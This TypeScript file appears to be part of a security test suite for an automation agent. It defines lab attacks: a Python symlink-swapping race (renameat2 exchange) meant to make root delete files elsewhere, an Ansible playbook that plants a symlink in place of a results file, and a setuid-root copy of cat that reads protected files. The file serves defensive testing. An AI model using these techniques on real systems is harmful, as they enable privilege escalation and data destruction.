/** Attacks that lead the agent elsewhere by links, and that gain the rights of root. */
import { chmodSync, chownSync, copyFileSync, existsSync, mkdirSync, writeFileSync } from 'node:fs';
import { join } from 'node:path';
import type { Attack } from './attack.ts';
import type { Lab } from './lab.ts';
import { plainUser } from './machine.ts';
import { hasProcess } from './on-the-next.ts';

/** Number of files that the agent may be made to remove elsewhere. */
const baits = 20;

/**
 * Python that exchanges folders and links without end, each pair in one step (renameat2(2), RENAME_EXCHANGE).
 */
const racing = (target: string) => `import ctypes, os, sys
libc = ctypes.CDLL(None)
pairs = []
for number in range(60):
    folder, link = 'd%d' % number, 'l%d' % number
    os.mkdir(folder)
    for index in range(${baits}): open('%s/f%d' % (folder, index), 'w').close()
    os.symlink('${target}', link)
    pairs.append((folder.encode(), link.encode()))
if os.fork(): sys.exit()
os.setsid()
open('began', 'w').close()
while os.path.exists('.'):
    for folder, link in pairs: libc.renameat2(-100, folder, -100, link, 2)
`;

/** Script that runs the race as an ordinary user, also where tasks are root. */
const raceOf = (lab: Lab, target: string, word: string): string => `cat > race.py <<'END'
${racing(target)}END
if [ "$(id -u)" = 0 ]; then
  chown -R ${plainUser.id} .; chmod 711 ${lab.workDir} ${lab.workDir}/tasks ..
  set -- setpriv --reuid ${plainUser.id} --regid ${plainUser.id} --clear-groups
fi
"$@" env -i PATH="$PATH" python3 race.py ${word} </dev/null >/dev/null 2>&1
until [ -e began ]; do sleep 0.05; done; echo began`;

const hosts = (host: string) =>
  JSON.stringify([
    { host, ok: 1, changed: 0, unreachable: 0, failed: 0, skipped: 0, rescued: 0, ignored: 0 },
  ]);

/** A playbook that puts a link in the place of its results, and ends before it writes them. */
const linking = (target: string) => `- hosts: localhost
  gather_facts: false
  tasks:
    - ansible.builtin.shell: ln -sf ${target} "$REVEILLE_ANSIBLE_HOSTS"; pkill -9 -f ansible-playbook
`;

export const onFolders: Attack[] = [
  {
    name: 'has root remove files elsewhere, by a link that comes and goes',
    control: 'root',
    tries: 20,
    run: async (lab) => {
      const word = lab.word();
      const target = join(lab.outside, word);
      mkdirSync(target, { mode: 0o755 });
      const files = Array.from({ length: baits }, (_, index) => join(target, `f${index}`));
      for (const file of files) writeFileSync(file, '');
      const { output } = await lab.run({ script: raceOf(lab, target, word) });
      if (!output.includes('began')) throw new Error(`The race did not begin: ${output}`);
      hasProcess(word);
      return files.some((file) => !existsSync(file));
    },
  },
  {
    name: 'has the agent read a file of its own by a link in the place of results',
    run: async (lab) => {
      const host = lab.word();
      const file = join(lab.etc, 'hosts.json');
      writeFileSync(file, hosts(host), { mode: 0o600 });
      if (lab.kind === 'plain') chownSync(file, plainUser.id, plainUser.id);
      const inventory = {
        name: 'here',
        type: 'static',
        content: 'localhost ansible_connection=local',
      } as const;
      const { finish } = await lab.run({ app: 'ansible', script: linking(file), inventory });
      return finish?.hosts?.some((one) => one.host === host) ?? false;
    },
  },
  {
    name: 'runs a program of root with its rights',
    run: async (lab) => {
      const [word, program] = [lab.word(), join(lab.outside, 'print')];
      const kept = join(lab.outside, 'kept');
      writeFileSync(kept, word, { mode: 0o600 });
      copyFileSync('/bin/cat', program);
      chmodSync(program, 0o4755);
      return (await lab.run({ script: `${program} ${kept}; true` })).output.includes(word.slice(5));
    },
  },
];
